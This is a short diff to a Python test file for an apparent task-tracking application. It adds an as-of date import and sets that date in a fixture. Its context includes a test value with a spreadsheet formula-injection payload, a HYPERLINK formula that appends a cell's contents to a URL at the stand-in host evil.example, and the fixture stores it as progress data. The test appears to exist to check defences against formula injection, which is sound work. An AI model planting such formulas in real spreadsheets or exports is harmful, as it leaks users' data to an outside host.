@@ -21,7 +21,7 @@ from tasktrack.services.base import unit_of_work
 from tasktrack.services.evidence import blob_path, check_source
 from tasktrack.services.ledger import Ledger
 from tasktrack.store.files import is_temp_name
-from tests.conftest import BACKEND
+from tests.conftest import AS_OF, BACKEND
 
 M = "kaizhou-7p:1-M2"
 
@@ -289,6 +289,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'  # a whole cel
 
 @pytest.fixture
 def marked(demo_ledger: Ledger) -> Ledger:
+    demo_ledger.ctx.stated_on = AS_OF  # made for the day the reports read (--as-of 2022-01-10), as the CLI does
     demo_ledger.tasks.edit("kaizhou-7p:1-3", {"title": TITLE})
     demo_ledger.milestones.edit(M, {"metric": METRIC})
     demo_ledger.progress.add(M, unit=None, period="2021-12", progress=FORMULA, on_milestone=True)
